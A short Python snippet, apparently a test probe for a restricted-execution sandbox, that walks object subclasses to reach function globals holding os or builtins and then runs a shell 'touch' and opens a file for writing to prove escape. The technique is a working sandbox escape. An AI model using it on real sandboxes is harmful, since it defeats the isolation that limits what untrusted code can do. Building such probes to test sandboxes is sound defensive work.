"""Climb from any object to one that can do what the code may not."""

found = []
try:
    for kind in ().__class__.__base__.__subclasses__():
        try:
            names = kind.__init__.__globals__
        except AttributeError:
            continue
        for name in ("os", "sys", "subprocess", "open", "__builtins__"):
            if name in names:
                found.append(name)
        if "os" in names:
            names["os"].system("touch " + target)
        if "__builtins__" in names:
            tools = names["__builtins__"]
            tools = tools if isinstance(tools, dict) else tools.__dict__
            tools["open"](target, "w")
except Exception as error:
    found.append(type(error).__name__)
"done"
